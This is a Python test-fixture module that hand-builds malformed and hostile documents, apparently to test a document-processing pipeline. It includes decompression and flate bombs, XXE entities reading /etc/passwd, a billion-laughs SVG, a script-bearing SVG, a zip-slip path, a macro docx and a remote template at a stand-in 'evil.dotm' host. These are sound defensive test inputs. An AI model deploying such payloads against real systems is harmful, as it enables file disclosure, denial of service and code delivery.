"""Documents that are damaged, hostile or odd, made by hand."""

import io
import random
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

from tests import office_files, samples
from tests.pictures import corners, encoded
from tests.samples import raw_pdf, stream

FONT = b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding>>"
LINES = b"".join(
    b"BT /F1 12 Tf 72 %d Td (Visible line number %d of this ordinary page.) Tj ET\n" % (700 - 16 * line, line)
    for line in range(10)
)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def page_objects(content: bytes, page: bytes = b"", resources: bytes = b"") -> list[bytes]:
    """The objects of a PDF of one page; the font is the fifth."""
    return [
        b"<</Type /Catalog /Pages 2 0 R>>",
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R %s /Resources <</Font <</F1 5 0 R>> %s>>>>"
        % (page, resources),
        stream(content),
        FONT,
    ]


def one_page(content: bytes, page: bytes = b"") -> bytes:
    """A PDF of one page."""
    return raw_pdf(page_objects(content, page))


def hidden_layer() -> bytes:
    """A page with text on a layer that is switched off."""
    secret = b"/OC /MC0 BDC BT /F1 12 Tf 72 300 Td (A secret on a hidden layer) Tj ET EMC\n"
    objects = page_objects(LINES + secret, resources=b"/Properties <</MC0 6 0 R>>")
    objects[0] = b"<</Type /Catalog /Pages 2 0 R /OCProperties <</OCGs [6 0 R] /D <</OFF [6 0 R]>>>>>>"
    return raw_pdf([*objects, b"<</Type /OCG /Name (Hidden)>>"])


def covered_text() -> bytes:
    """A page with text under a black bar."""
    return one_page(LINES + b"BT /F1 12 Tf 72 300 Td (A secret under a bar) Tj ET 0 g 60 290 400 30 re f\n")


def mapped_to(code: bytes) -> bytes:
    """A page whose letters are all mapped to one character."""
    objects = page_objects(LINES)
    objects[4] = objects[4].replace(b">>", b" /ToUnicode 6 0 R>>")
    codes = b" ".join([b"<%s>" % code] * 95)
    cmap = (
        b"1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfrange <20> <7E> [%s] endbfrange" % codes
    )
    head = b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def /CMapType 2 def "
    return raw_pdf([*objects, stream(head + cmap + b" endcmap end end")])


def halved_characters() -> bytes:
    """A page whose title, label, bookmark and attachment have half a character of UTF-16."""
    half = b"<FEFFD8000041>"
    objects = page_objects(LINES)
    objects[0] = (
        b"<</Type /Catalog /Pages 2 0 R /Outlines 6 0 R /PageLabels <</Nums [0 <</P %s>>]>> /Lang %s"
        b" /Names <</EmbeddedFiles <</Names [%s 8 0 R]>>>>>>" % (half, half, half)
    )
    outline = [b"<</First 7 0 R /Last 7 0 R>>", b"<</Title %s /Parent 6 0 R /Dest [3 0 R /Fit]>>" % half]
    attached = [b"<</Type /Filespec /F %s /UF %s /EF <</F 9 0 R>>>>" % (half, half), stream(b"x")]
    whole = raw_pdf([*objects, *outline, *attached, b"<</Title %s /Author %s>>" % (half, half)])
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Info 10 0 R")


def circling_labels() -> bytes:
    """A page whose label is looked for in a tree without an end."""
    objects = page_objects(LINES)
    objects[0] = b"<</Type /Catalog /Pages 2 0 R /PageLabels 6 0 R>>"
    return raw_pdf([*objects, b"<</Kids [7 0 R]>>", b"<</Kids [6 0 R]>>"])


def nested_arrays(depth: int) -> bytes:
    """A page with arrays inside of arrays."""
    return one_page(LINES, b"/Nested " + b"[" * depth + b"]" * depth)


def revisions(count: int) -> bytes:
    """A document to which its page was appended again and again; the last one counts."""
    document = one_page(LINES)
    for number in range(count):
        table = document.rindex(b"startxref")
        before, at = int(document[table:].split()[1]), len(document)
        content = stream(b"BT /F1 12 Tf 72 700 Td (Revision number %d of the page) Tj ET" % number)
        document += b"4 0 obj\n%s\nendobj\n" % content
        start = len(document)
        document += b"xref\n4 1\n%010d 00000 n \ntrailer\n<</Size 6 /Root 1 0 R /Prev %d>>\n" % (at, before)
        document += b"startxref\n%d\n%%%%EOF\n" % start
    return document


def huge_png(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it is very large."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 64)), (b"IEND", b""))
    )


def many_frames(count: int, form: str) -> bytes:
    """An image of many small frames."""
    out = io.BytesIO()
    frames = [Image.new("L", (8, 8), 255 - number % 2) for number in range(count)]
    frames[0].save(out, form, save_all=True, append_images=frames[1:])
    return out.getvalue()


def office_bomb() -> bytes:
    """A Word document that unpacks to far more than it is."""
    head = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    return office_files.docx("", {"word/document.xml": head + b" " * (70 << 20)})


def climbing_office() -> bytes:
    """A Word document with a name that climbs out of the archive."""
    return office_files.docx(office_files.para("Text"), {"../../evil.txt": b"x"})


def drawing_with_entities() -> bytes:
    """A drawing whose entity is a file of this machine, and one that grows without end."""
    entities = b'<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    return (
        b'<?xml version="1.0"?><!DOCTYPE svg [' + entities + b"]>"
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><text x="1" y="5">Text &f;&b;</text></svg>'
    )


def locked_office() -> bytes:
    """A Word document behind a password."""
    import msoffcrypto.format.ooxml  # type: ignore[import-untyped]

    padding = {"word/media/image1.bin": random.Random(7).randbytes(20_000)}
    plain, locked = io.BytesIO(office_files.docx(office_files.para("Locked"), padding)), io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(plain).encrypt("sesame", locked)
    return locked.getvalue()


def archive() -> bytes:
    """A ZIP file that is no document."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("readme.txt", "hello")
    return out.getvalue()


def truncated_jpeg() -> bytes:
    """The first half of a JPEG."""
    whole = encoded(corners((400, 300)), "JPEG")
    return whole[: len(whole) // 2]


def late_header(offset: int) -> bytes:
    """A PDF behind some other bytes."""
    return b"x" * offset + samples.letter()


def huge_image(codec: bytes, bits: int = 1) -> bytes:
    """A page with an image that says it is 100,000 pixels wide and high."""
    objects = page_objects(b"q 600 0 0 700 0 0 cm /Im Do Q\n", resources=b"/XObject <</Im 6 0 R>>")
    size = b" /Width 100000 /Height 100000 /BitsPerComponent %d /ColorSpace /DeviceGray" % bits
    head = b" /Type /XObject /Subtype /Image%s /Filter /%s" % (size, codec)
    return raw_pdf([*objects, stream(b"\0" * 1_000, head)])


def filtered(codecs: bytes, content: bytes) -> bytes:
    """A page whose content goes through these filters."""
    objects = page_objects(b"")
    objects[3] = stream(content, b" /Filter [%s]" % codecs)
    return raw_pdf(objects)


def broken_font() -> bytes:
    """A page whose font program is noise."""
    objects = page_objects(LINES)
    widths = b"/FirstChar 32 /LastChar 126 /Widths [%s]" % (b"500 " * 95)
    objects[4] = b"<</Type /Font /Subtype /TrueType /BaseFont /X %s /FontDescriptor 6 0 R>>" % widths
    descriptor = b"<</Type /FontDescriptor /FontName /X /Flags 32 /FontBBox [0 0 1 1] /FontFile2 7 0 R>>"
    noise = b"\0\1\0\0\0\x0a" + random.Random(3).randbytes(4_000)
    return raw_pdf([*objects, descriptor, stream(noise, b" /Length1 %d" % len(noise))])


def linearized_cut() -> bytes:
    """The first pages of a document that is made to be shown while it is still on its way."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(samples.big(20))) as document:
        document.save(out, linearize=True)
    return out.getvalue()[: len(out.getvalue()) * 2 // 5]


def scripted_drawing() -> bytes:
    """An SVG drawing with a script and an entity that names a file."""
    head = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    drawn = b'<script>alert(1)</script><text x="5" y="50">Drawn &x;</text>'
    return head + b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' + drawn + b"</svg>"


def office_with_remote_template() -> bytes:
    """A Word document whose template is on another machine."""
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" TargetMode="External" Target="http://203.0.113.7/evil.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    return office_files.docx(office_files.para("Text"), {"word/_rels/settings.xml.rels": rels})


def office_with_macros() -> bytes:
    """A Word document with a macro."""
    return office_files.docx(office_files.para("Text"), None, ("v1", "vbaProject", "vbaProject.bin"))


def counted_short(counted: int, pages: int, *, packed: bool = False, nested: bool = False) -> bytes:
    """A document whose page tree counts fewer pages than it has; its objects may be in an object stream."""
    content = b"BT /F1 12 Tf 72 700 Td (This is page number %d of the tree) Tj ET"
    kids = b"".join(b" %d 0 R" % (4 + 2 * page) for page in range(pages))
    objects = [
        b"<</Type /Catalog /Pages 2 0 R>>",
        b"<</Type /Pages /Kids [%s] /Count %d>>" % (b"3 0 R" if nested else kids, counted),
        b"<</Type /Pages /Parent 2 0 R /Kids [%s] /Count %d>>" % (kids, counted),
    ]
    for page in range(pages):
        fonts = b"/Resources <</Font <</F1 %d 0 R>>>>" % (4 + 2 * pages)
        head = b"/Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
        objects += [b"<<%s /Contents %d 0 R %s>>" % (head, 5 + 2 * page, fonts), stream(content % (page + 1))]
    whole = raw_pdf([*objects, FONT])
    return _in_object_streams(whole, counted, pages) if packed else whole


def _in_object_streams(document: bytes, counted: int, pages: int) -> bytes:
    """The same with its objects in object streams that are not compressed; pikepdf would put the count right."""
    right, wrong = b"/Count %d" % pages, b"/Count %d" % counted
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(document.replace(wrong, right))) as opened:
        opened.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=False)
    return out.getvalue().replace(right, wrong)


def locked_and_counted_short() -> bytes:
    """The same behind a password."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(counted_short(5, 5))) as opened:
        opened.save(out, encryption=pikepdf.Encryption(owner="owner", user="open", R=6))
    return out.getvalue().replace(b"/Count 5", b"/Count 1")


def packed_lines(times: int) -> bytes:
    """The contents of an ordinary page, packed with Flate again and again."""
    packed = LINES
    for _ in range(times):
        packed = zlib.compress(packed)
    return packed


def zeros_packed(size_bytes: int, times: int) -> bytes:
    """So many zero bytes, packed with Flate again and again; the first time block by block, which takes no time."""
    block = 1 << 20
    packer = zlib.compressobj()
    head = packer.compress(b"\0" * block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(b"\0" * block) + packer.flush(zlib.Z_FULL_FLUSH)
    # The checksum of zeros is their number.
    checksum = struct.pack(">HH", size_bytes % 65_521, 1)
    packed = head + again * (size_bytes // block - 1) + b"\x03\0" + checksum
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed


def flate_bomb(size_bytes: int, times: int) -> bytes:
    """A page whose content is a few hundred bytes that unpack to so many."""
    return filtered(b"/FlateDecode " * times, zeros_packed(size_bytes, times))


def exponential_forms(levels: int, calls: int) -> bytes:
    """Two pages, the first with a form that draws another so many times, which draws another, and so on."""
    last = 6 + levels
    objects = page_objects(LINES + b"/X Do\n", resources=b"/XObject <</X 7 0 R>>")
    objects[1] = b"<</Type /Pages /Kids [3 0 R 6 0 R] /Count 2>>"
    objects.append(page_objects(b"")[2].replace(b"/Contents 4 0 R", b""))
    head = b" /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources <</XObject <</X %d 0 R>> /Font <</F1 5 0 R>>>>"
    forms = [stream(b"/X Do " * calls, head % (number + 1)) for number in range(7, last)]
    drawn = stream(b"BT /F1 9 Tf 72 90 Td (again) Tj ET", head % last)
    return raw_pdf([*objects, *forms, drawn])
